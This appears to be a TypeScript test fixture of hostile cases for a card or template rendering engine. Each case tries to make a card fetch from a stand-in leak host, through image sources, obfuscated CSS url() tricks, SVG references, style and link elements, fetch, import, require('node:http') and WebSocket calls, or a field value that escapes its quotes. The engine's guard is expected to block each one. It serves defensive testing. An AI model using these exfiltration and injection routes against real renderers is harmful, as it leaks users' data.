import { box, card, forgedTree, type HostileCase, leakUrl } from './hostile-case.ts';

type Route = Pick<HostileCase, 'name' | 'source'> &
  Partial<Pick<HostileCase, 'kind' | 'values' | 'fields' | 'expected' | 'guard' | 'tokens'>>;

const img = (attributes: string) => box(`<img ${attributes} width={40} height={40} />`);
const style = (text: string) => box('', text);
const drawing = (inside: string) => box(`<svg width="40" height="40" viewBox="0 0 40 40">${inside}</svg>`);

/** Every way by which a card could make the engine load something. */
const routes: Route[] = [
  { name: 'img src', source: img(`src="${leakUrl}"`) },
  { name: 'img src without a scheme', source: img('src="//leak.invalid/pixel.png"') },
  { name: 'img src with capitals and spaces', source: img('src=" HTTP://leak.invalid/pixel.png"') },
  {
    name: 'img src as a list',
    source: img(`src={['${leakUrl}']}`),
    expected: 'evaluate.attribute',
    guard: 'plain-attributes',
  },
  {
    name: 'img src as an object',
    source: img(`src={{ href: '${leakUrl}' }}`),
    expected: 'evaluate.attribute',
    guard: 'plain-attributes',
  },
  { name: 'img src that is a path', source: img('src="/runtime/manifest.json"') },
  { name: 'img src of a file', source: img('src="file:///etc/hostname"') },
  { name: 'img src of a blob', source: img('src="blob:http://leak.invalid/1"') },
  {
    name: 'img src with a line break in its scheme',
    source: img(`src={'ht\\ntp://leak.invalid/pixel.png'}`),
  },
  { name: 'img srcSet', source: img(`srcSet="${leakUrl} 2x"`), expected: 'engine.layout', guard: 'engine' },
  { name: 'backgroundImage', source: style(`backgroundImage: 'url(${leakUrl})'`) },
  { name: 'background with quotes', source: style(`background: 'center / cover url("${leakUrl}")'`) },
  { name: 'background with a comment', source: style(`background: 'url(/**/${leakUrl})'`) },
  {
    name: 'background with an escaped name',
    source: style(`background: '\\\\75rl(${leakUrl})'`),
    expected: 'style.invalid',
    guard: 'engine',
  },
  { name: 'background that is not closed', source: style(`background: 'url(${leakUrl}'`) },
  {
    name: 'background by image-set',
    source: style(`backgroundImage: 'image-set("${leakUrl}" 1x)'`),
    expected: 'style.invalid',
    guard: 'engine',
  },
  {
    name: 'background through a variable',
    source: style(`'--a': 'url(${leakUrl})', backgroundImage: 'var(--a)'`),
  },
  {
    name: 'background put together from variables',
    source: style(`'--a': 'url(', '--b': '${leakUrl})', backgroundImage: 'var(--a)var(--b)'`),
  },
  {
    name: 'background through a token',
    source: style(`backgroundImage: 'var(--brand)'`),
    tokens: { brand: `url(${leakUrl})` },
  },
  { name: 'maskImage', source: style(`maskImage: 'url(${leakUrl})'`) },
  { name: 'WebkitMask', source: style(`WebkitMask: 'url(${leakUrl}) center'`) },
  {
    name: 'listStyleImage',
    source: box(`<ul style={{ listStyleImage: 'url(${leakUrl})' }}><li>a</li></ul>`),
  },
  { name: 'content', source: style(`content: 'url(${leakUrl})'`) },
  { name: 'filter', source: style(`filter: 'url(${leakUrl}#f)'`) },
  { name: 'Tailwind class', source: box(`<div tw="flex w-10 h-10 bg-[url(${leakUrl})]" />`) },
  {
    name: 'inline drawing: image href',
    source: drawing(`<image href="${leakUrl}" width="40" height="40" />`),
  },
  {
    name: 'inline drawing: image xlinkHref',
    source: drawing(`<image xlinkHref="${leakUrl}" width="40" height="40" />`),
  },
  { name: 'inline drawing: use', source: drawing(`<use href="${leakUrl}#a" />`) },
  {
    name: 'inline drawing: feImage',
    source: drawing(
      `<filter id="f"><feImage href="${leakUrl}" /></filter><rect filter="url(#f)" width="40" height="40" />`,
    ),
  },
  {
    name: 'inline drawing: style of a shape',
    source: drawing(`<rect style={{ fill: 'url(${leakUrl})' }} width="40" height="40" />`),
  },
  { name: 'inline drawing: fill', source: drawing(`<rect fill="url(${leakUrl})" width="40" height="40" />`) },
  {
    name: 'inline drawing: a child image in HTML',
    source: drawing(`<foreignObject><img src="${leakUrl}" /></foreignObject>`),
  },
  {
    name: 'style element with @import',
    source: box(`<style>{'@import url(${leakUrl});'}</style>`),
    expected: 'element.refused',
    guard: 'refused-elements',
  },
  {
    name: 'style element with a font',
    source: box(`<style>{'@font-face { font-family: a; src: url(${leakUrl}) }'}</style>`),
    expected: 'element.refused',
    guard: 'refused-elements',
  },
  {
    name: 'style element with a background',
    source: box(`<style>{'p { background: url(${leakUrl}) }'}</style>`),
    expected: 'element.refused',
    guard: 'refused-elements',
  },
  {
    name: 'STYLE element in capitals',
    source: card(
      `const S = 'STYLE'; return <div style={{ display: 'flex' }}><S>{'p { background: url(${leakUrl}) }'}</S>{title}</div>;`,
    ),
    expected: 'element.refused',
    guard: 'refused-elements',
  },
  {
    name: 'link element',
    source: box(`<link rel="stylesheet" href="${leakUrl}" />`),
    expected: 'element.refused',
    guard: 'refused-elements',
  },
  {
    name: 'field value',
    source: card(
      `return <div style={{ display: 'flex' }}><img src={portrait} width={9} height={9} /></div>;`,
    ).replace('{ title,', '{ portrait, title,'),
    fields: [{ name: 'portrait', kind: 'image', required: false }],
    values: { portrait: leakUrl },
  },
  {
    name: 'field value in a background',
    source: card(`return <div style={{ display: 'flex', background: 'url(' + title + ')' }}>a</div>;`),
    values: { title: leakUrl },
  },
  {
    name: 'field value that leaves its quotes',
    source: card(`return <div style={{ display: 'flex', backgroundImage: 'url("' + title + '")' }}>a</div>;`),
    values: { title: `data:image/png;base64,AA"), url("${leakUrl}` },
    expected: 'asset.format',
    guard: 'several',
  },
  {
    name: 'JSON card',
    kind: 'json',
    source: JSON.stringify({
      type: 'div',
      props: { style: { display: 'flex' } },
      children: [{ type: 'img', props: { src: leakUrl, width: 4, height: 4 } }],
    }),
  },
  {
    name: 'forged tree',
    kind: 'code',
    expected: 'evaluate.no-default-export',
    guard: 'several',
    source: forgedTree(
      JSON.stringify({
        type: 'div',
        props: { style: { display: 'flex' } },
        children: [{ type: 'img', props: { src: leakUrl, width: 4, height: 4 }, children: [] }],
      }),
    ),
  },
  {
    name: 'fetch',
    source: card(`fetch('${leakUrl}'); return <p>{title}</p>;`),
    expected: 'evaluate.threw',
    guard: 'sandbox',
  },
  {
    name: 'dynamic import',
    source: card(`import('${leakUrl}'); return <p>{title}</p>;`),
    expected: 'source.import',
    guard: 'engine',
  },
  {
    name: 'static import',
    source: `import '${leakUrl}';\n${box('')}`,
    expected: 'source.import',
    guard: 'engine',
  },
  {
    name: 'require',
    kind: 'code',
    source: `require('node:http').get('${leakUrl}'); exports.default = () => h('p')`,
    expected: 'evaluate.import',
    guard: 'imports',
  },
  {
    name: 'socket',
    source: card(`new WebSocket('ws://leak.invalid'); return <p>{title}</p>;`),
    expected: 'evaluate.threw',
    guard: 'sandbox',
  },
];

export const network: HostileCase[] = routes.map((route) => ({
  kind: 'jsx',
  expected: 'asset.remote',
  guard: 'urls',
  ...route,
  class: 'network',
}));
